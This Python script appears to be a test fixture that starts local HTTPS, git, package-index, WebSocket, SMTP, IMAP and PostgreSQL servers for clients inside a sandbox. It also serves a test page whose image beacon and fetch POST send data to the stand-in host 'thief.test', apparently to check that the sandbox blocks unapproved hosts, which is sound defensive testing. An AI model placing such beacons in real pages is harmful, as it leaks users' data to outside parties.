"""What the clients in a jail speak to: HTTPS with git, pip and npm behind it, WebSockets, SMTP, IMAP and PostgreSQL.

Run outside the jail as `servers.py FOLDER`: certificate and key are FOLDER/cert.pem and key.pem, FOLDER/repo.git is served by
git. Prints one line of ports once all listen.
"""
import asyncio, base64, hashlib, http.server, io, json, os, ssl, struct, subprocess, sys, tarfile, threading, zipfile

folder = sys.argv[1]
tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
tls.load_cert_chain(f"{folder}/cert.pem", f"{folder}/key.pem")


def wheel():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("creelpkg.py", "GREETING = 'hello from a wheel'\n")
        info = "creelpkg-1.0.dist-info"
        archive.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: creelpkg\nVersion: 1.0\n")
        archive.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        archive.writestr(f"{info}/RECORD", "creelpkg.py,,\n")
    return out.getvalue()


def tarball():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, text in {
            "package/package.json": '{"name":"creelpkg","version":"1.0.0","main":"index.js"}',
            "package/index.js": "module.exports = 'hello from a package'\n",
        }.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            archive.addfile(entry, io.BytesIO(text.encode()))
    return out.getvalue()


WHEEL, TARBALL = wheel(), tarball()
# Asks its own server, and another that nobody approved, in the two ways in which a page can.
PAGE = b"""<!doctype html><title>page</title><p id=seen>nothing yet</p><img src="https://thief.test/pixel?what=all">
<script>
const tell = words => document.getElementById("seen").append(" / " + words);
fetch("/x").then(r => r.text()).then(t => tell("own: " + t.trim()), e => tell("own failed"));
fetch("https://thief.test/take", {method: "POST", body: "all", mode: "no-cors"}).then(() => tell("TAKEN"), () => tell("kept"));
</script>"""


class Web(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def body(self):
        if self.headers.get("transfer-encoding") == "chunked":
            whole = b""
            while size := int(self.rfile.readline(), 16):
                whole += self.rfile.read(size)
                self.rfile.readline()
            self.rfile.readline()
            return whole
        return self.rfile.read(int(self.headers.get("content-length") or 0))

    def say(self, body, kind="text/plain", status=200, headers=()):
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        path = self.path.split("?")[0]
        if path.startswith("/repo.git/"):
            return self.git()
        if path == "/simple/creelpkg/":
            return self.say(b'<a href="/creelpkg-1.0-py3-none-any.whl">creelpkg-1.0-py3-none-any.whl</a>', "text/html")
        if path.endswith(".whl"):
            return self.say(WHEEL, "application/octet-stream")
        if path == "/page":
            return self.say(PAGE, "text/html")
        if path == "/creelpkg":
            host = self.headers["host"]
            dist = {"tarball": f"https://{host}/creelpkg-1.0.0.tgz", "shasum": hashlib.sha1(TARBALL).hexdigest()}
            one = {"name": "creelpkg", "version": "1.0.0", "dist": dist}
            whole = {"name": "creelpkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": one}}
            return self.say(json.dumps(whole).encode(), "application/json")
        if path.endswith(".tgz"):
            return self.say(TARBALL, "application/octet-stream")
        self.say(b"hello from ORIGIN\n")

    def do_POST(self):
        if self.path.startswith("/repo.git/"):
            return self.git()
        self.say(b"got %d bytes\n" % len(self.body()))

    def git(self):
        path, _, query = self.path.partition("?")
        env = {
            "PATH": os.environ["PATH"],
            "GIT_PROJECT_ROOT": folder,
            "GIT_HTTP_EXPORT_ALL": "1",
            "REMOTE_USER": "agent",
            "PATH_INFO": path,
            "QUERY_STRING": query,
            "REQUEST_METHOD": self.command,
            "CONTENT_TYPE": self.headers.get("content-type", ""),
            "GIT_PROTOCOL": self.headers.get("git-protocol", ""),
            "HTTP_CONTENT_ENCODING": self.headers.get("content-encoding", ""),
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "safe.directory",
            "GIT_CONFIG_VALUE_0": "*",
        }
        done = subprocess.run(["git", "http-backend"], env=env, input=self.body(), stdout=subprocess.PIPE)
        head, _, body = done.stdout.partition(b"\r\n\r\n")
        status, kind, more = 200, "text/plain", []
        for line in head.decode().split("\r\n"):
            name, _, value = line.partition(": ")
            if name == "Status":
                status = int(value.split()[0])
            elif name == "Content-Type":
                kind = value
            elif name:
                more.append((name, value))
        self.say(body, kind, status, more)


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def get_request(self):
        stream, address = super().get_request()
        return tls.wrap_socket(stream, server_side=True, do_handshake_on_connect=False), address


async def websocket(socket, *_):
    try:
        async for message in socket:
            await socket.send(message)
    except Exception:  # a client that leaves without a word
        pass


def by_lines(greeting, talk):
    async def serve(reader, writer):
        if greeting:
            writer.write(greeting)
        try:
            await talk(reader, writer)
        except (ConnectionError, asyncio.IncompleteReadError, ssl.SSLError):
            pass
        writer.close()

    return serve


async def smtp(reader, writer):
    data = False
    while line := await reader.readline():
        word = line.strip().upper()
        if data:
            data = word != b"."
            if not data:
                writer.write(b"250 queued\r\n")
        elif word.startswith((b"EHLO", b"HELO")):
            writer.write(b"250-origin.test\r\n250-STARTTLS\r\n250 AUTH PLAIN\r\n")
        elif word == b"STARTTLS":
            writer.write(b"220 go\r\n")
            await writer.drain()
            await writer.start_tls(tls)
        elif word == b"DATA":
            data = True
            writer.write(b"354 go on\r\n")
        elif word == b"QUIT":
            writer.write(b"221 bye\r\n")
            return
        else:
            writer.write(b"235 yes\r\n" if word.startswith(b"AUTH") else b"250 ok\r\n")
        await writer.drain()


async def imap(reader, writer):
    while line := await reader.readline():
        tag, _, rest = line.decode().strip().partition(" ")
        word = rest.split(" ")[0].upper()
        if word == "CAPABILITY":
            writer.write(f"* CAPABILITY IMAP4rev1 STARTTLS\r\n{tag} OK done\r\n".encode())
        elif word == "STARTTLS":
            writer.write(f"{tag} OK go\r\n".encode())
            await writer.drain()
            await writer.start_tls(tls)
        elif word == "SELECT":
            writer.write(f"* 3 EXISTS\r\n{tag} OK [READ-WRITE] done\r\n".encode())
        elif word == "LOGOUT":
            writer.write(f"* BYE\r\n{tag} OK done\r\n".encode())
            return
        else:
            writer.write(f"{tag} OK done\r\n".encode())
        await writer.drain()


def pg(kind, body=b""):
    return kind + struct.pack("!i", len(body) + 4) + body


async def postgres(reader, writer):
    assert (await reader.readexactly(8))[4:] == bytes([4, 210, 22, 47])
    writer.write(b"S")
    await writer.drain()
    await writer.start_tls(tls)
    (length,) = struct.unpack("!i", await reader.readexactly(4))
    await reader.readexactly(length - 4)
    writer.write(pg(b"R", struct.pack("!i", 0)) + pg(b"S", b"server_version\x0015.0\x00") + pg(b"Z", b"I"))
    while True:
        kind = await reader.readexactly(1)
        (length,) = struct.unpack("!i", await reader.readexactly(4))
        await reader.readexactly(length - 4)
        if kind == b"X":
            return
        column = b"answer\x00" + struct.pack("!ihihih", 0, 0, 25, -1, -1, 0)
        row = struct.pack("!hi", 1, 2) + b"42"
        writer.write(pg(b"T", struct.pack("!h", 1) + column) + pg(b"D", row) + pg(b"C", b"SELECT 1\x00") + pg(b"Z", b"I"))
        await writer.drain()


async def main():
    import websockets

    web = Server(("127.0.0.1", 0), Web)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    ws = await websockets.serve(websocket, "127.0.0.1", 0, ssl=tls)
    port = lambda server: server.sockets[0].getsockname()[1]
    ports = [web.server_address[1], port(ws)]
    for greeting, talk in ((b"220 origin.test\r\n", smtp), (b"* OK hello\r\n", imap), (None, postgres)):
        ports.append(port(await asyncio.start_server(by_lines(greeting, talk), "127.0.0.1", 0)))
    print(*ports, flush=True)
    await asyncio.Event().wait()


asyncio.run(main())
